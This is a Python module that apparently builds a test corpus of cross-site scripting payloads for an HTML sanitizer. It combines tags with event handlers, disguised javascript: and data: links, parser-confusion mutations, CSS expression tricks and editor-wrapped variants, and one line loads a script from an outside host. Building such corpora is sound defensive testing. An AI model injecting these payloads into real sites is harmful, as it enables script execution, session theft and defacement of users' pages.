"""Strings that run script in some browser or parser when they reach a page uncleaned."""

import itertools
from urllib.parse import quote

CALL = "alert(1)"
TAGS = [
    *("img", "svg", "body", "input", "video", "audio", "details", "iframe", "object", "marquee"),
    *("a", "p", "div", "table", "td", "math", "form", "button", "select", "textarea", "style"),
    *("figure", "figcaption", "blockquote", "x-custom", "link", "base", "embed", "bgsound"),
]
EVENTS = [
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onstart"),
    *("onpointerover", "onanimationend", "onbeforeinput", "ONERROR", "oNlOaD", "onerror\x00"),
]
FRAMES = [
    "<{tag} {event}={call}>",
    "<{tag} src=x {event}='{call}'>",
    "<{tag}/{event}={call}//",
    '<{tag} title="</{tag}><script>{call}</script>" {event}="{call}">',
    "<{tag}\n{event}\n=\n{call} autofocus tabindex=1>x</{tag}>",
]
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "javascript\t:",
    "jav\u200bascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6a;avascript&#58;",
    "&#0000106avascript:",
    "javascript:\u2028",
    "vbscript:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#",
    "data:image/svg+xml,<svg onload=alert(1)>#",
    "blob:",
    "file:///",
    "view-source:javascript:",
    "feed:javascript:",
    "javascript://%0a",
]
PLACES = [
    '<a href="{url}">x</a>',
    "<a href={url}>x</a>",
    "<a href='{url}'><img src='{url}'></a>",
    '<form action="{url}"><input type=submit></form>',
    '<button formaction="{url}">x</button>',
    '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object>',
    '<svg><a xlink:href="{url}"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values="{url}"/></svg>',
    '<math href="{url}">x</math>',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<base href="{url}">',
    '<img src="{url}" srcset="{url} 2x" longdesc="{url}">',
    '<blockquote cite="{url}">x</blockquote>',
    '<table background="{url}"><td background="{url}">x</table>',
    '<div style="background:url({url})">x</div>',
]
BROKEN = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type=text/javascript>alert(1)",
    "<ScRiPt/x>alert(1)</sCrIpT\n>",
    "<<script>alert(1);//<</script>",
    "<script src=//e.vn/x.js></script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    '<! foo=">" onload=alert(1)>',
    "</script><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    '<a href="x" \x0bonclick=alert(1)>x</a>',
    "<p \u0338onclick=alert(1)>x",
    "<p>\u0338<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{x:expression(alert(1))}</style>",
    "<p style='x:expression(alert(1));behavior:url(x.htc)'>x</p>",
    "<p style=\"-moz-binding:url('x.xml#xss')\">x</p>",
    "<table><tr><td><form></table><img src=x onerror=alert(1)>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a id=x name=x href='&#x2028;javascript:alert(1)'>x</a>",
    "<a href=//evil.example/ target=_blank rel=opener>x</a>",
    "<a href='https:evil'>x</a><a href='/\\evil.example'>x</a><a href='\\\\evil.example'>x</a>",
    "<img src='/media/photos/ab/../../x.svg'><img src='/media/photos/ab/a.svg'>",
    "<img src='//evil.example/media/photos/ab/abc-960.jpg'>",
    "<img src='/media/photos/ab/abc-960.jpg?x=<script>alert(1)</script>'>",
    "<img src='/media/photos/ab/abc-960.jpg' onerror=alert(1) alt='\"><script>alert(1)</script>'>",
    "<ol start='1 onclick=alert(1)'><li onclick=alert(1)>x</ol>",
    "<table><td colspan='2\" onclick=\"alert(1)' scope='row\" onclick=\"alert(1)'>x</table>",
    "<figure class='image' data-widget='x' onclick=alert(1)><img src=x><figcaption>x</figcaption>",
    "{cke_protected}%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<!--{cke_protected}%3Cscript%3Ealert(1)%3C%2Fscript%3E-->",
    "<p data-cke-pa-onclick=alert(1) data-cke-realelement='%3Cscript%3E'>x</p>",
]


def _events():
    for tag, event in itertools.product(TAGS, EVENTS):
        frame = FRAMES[(len(tag) + len(event)) % len(FRAMES)]
        yield frame.format(tag=tag, event=event, call=CALL)


def _links():
    for scheme, place in itertools.product(SCHEMES, PLACES):
        yield place.format(url=f"{scheme}{CALL}")


def _wrapped():
    """The same inside what the editor and Word produce."""
    for payload in BROKEN:
        yield f"<ul><li><p>Xin chào {payload}</p></li></ul>"
        yield f"<table><tr><td>{payload}</td></tr></table>"
        yield f"<figure><img src='/media/photos/ab/abc-960.jpg' alt=x><figcaption>{payload}"
        yield f"<b><a href='/x'>{payload}</b></a>"
        yield quote(payload)


PAYLOADS = list(dict.fromkeys([*BROKEN, *_events(), *_links(), *_wrapped()]))
